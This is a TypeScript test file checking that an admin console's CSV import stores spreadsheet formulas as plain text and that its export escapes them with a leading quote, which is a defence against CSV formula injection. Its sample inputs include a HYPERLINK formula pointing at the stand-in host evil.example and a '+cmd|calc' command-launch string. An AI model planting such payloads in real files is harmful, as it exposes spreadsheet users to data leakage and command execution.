import type { ResourceDef } from '../../src/console/types';
import { csvCell } from '../../mocks/crud/csv';
import { db } from '../../mocks/db';
import { ADMIN, call, download, Multipart, pinClock, signIn, exportedRows } from './helpers';
import { resourceByKey } from '../../src/resources';

const riskAlert = resourceByKey('riskAlert')!;
const order = resourceByKey('order')!;
const blacklist = resourceByKey('blacklist')!;

/** A cell a spreadsheet runs: a link that sends the reader (and the sheet's data) elsewhere. */
const FORMULA = '=HYPERLINK("http://evil.example","x")';

/** An export's rows as records by field (its headers are the fields' labels), byte-order mark removed. */
async function exported(def: ResourceDef, token: string, query: Record<string, string>) {
  const csv = await download(`${def.api}/export`, { token, query });
  expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  return exportedRows(def, csv.text);
}

describe('CSV formula injection (OWASP): imported as data, exported neutralised', () => {
  let token: string;
  beforeEach(async () => {
    pinClock();
    token = await signIn(ADMIN);
  });

  it('keeps an imported formula as the text it is, and exports it behind a leading quote', async () => {
    // Dimension 3 (a customer name) takes any text; the reason carries formulas of the other starts.
    const file = [
      'dimension,value,reason,expires_at',
      `3,"${FORMULA.replace(/"/g, '""')}",@SUM(1+1),`,
      '3,Plain Customer Ltd,+cmd|calc,',
      '3,-2+3 Trading,Chargeback abuse,',
    ].join('\r\n');
    const answer = await call('POST', `${blacklist.api}/import`, { token, body: new Multipart('list.csv', file) });
    expect(answer.body).toMatchObject({ code: 0, result: { total: 3, accepted: 3, rejected: 0 } });
    // The database holds what was imported: the neutralising belongs to the file, not to the data.
    const imported = db.blacklist.filter((e) => e.source === 'import');
    expect(imported.map((e) => [e.value, e.reason])).toEqual([
      [FORMULA, '@SUM(1+1)'],
      ['Plain Customer Ltd', '+cmd|calc'],
      ['-2+3 Trading', 'Chargeback abuse'],
    ]);

    const rows = await exported(blacklist, token, { dimension: '3' });
    const byId = new Map(rows.map((r) => [r.entry_id, r]));
    const [formula, plain, minus] = imported.map((e) => byId.get(e.entry_id)!);
    expect(formula).toMatchObject({ value: `'${FORMULA}`, reason: "'@SUM(1+1)" });
    expect(plain).toMatchObject({ value: 'Plain Customer Ltd', reason: "'+cmd|calc" });
    expect(minus).toMatchObject({ value: "'-2+3 Trading", reason: 'Chargeback abuse' });
    // The file's own bytes: the quoted cell starts with the quote, so no spreadsheet reads `=` first.
    const csv = await download(`${blacklist.api}/export`, { token, query: { value: 'evil.example' } });
    expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example"",""x"")"`);
    expect(csv.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('leaves numbers alone: a negative amount and a negative percentage stay numbers', async () => {
    const reversal = db.order[0];
    reversal.amount = '-12.50';
    const [orderRow] = await exported(order, token, { order_no: reversal.order_no });
    expect(orderRow).toMatchObject({ order_no: reversal.order_no, amount: '-12.50' });

    const falling = db.riskAlert.find((a) => a.metric_value.startsWith('-'))!;
    const [alertRow] = await exported(riskAlert, token, { alert_id: falling.alert_id });
    expect(alertRow).toMatchObject({
      alert_id: falling.alert_id,
      metric_value: falling.metric_value,
      merchant_name: falling.merchant_name,
    });
    expect(alertRow.metric_value).toMatch(/^-\d+(\.\d+)?$/);
  });

  it('neutralises a leading null character too (ASVS 5.0 V1.2.10), numbers with a sign excepted', () => {
    expect(csvCell('\0=1+1')).toBe("'\0=1+1");
    expect(csvCell('+44.10')).toBe('+44.10');
    expect(csvCell('-1e5')).toBe("'-1e5");
  });
});
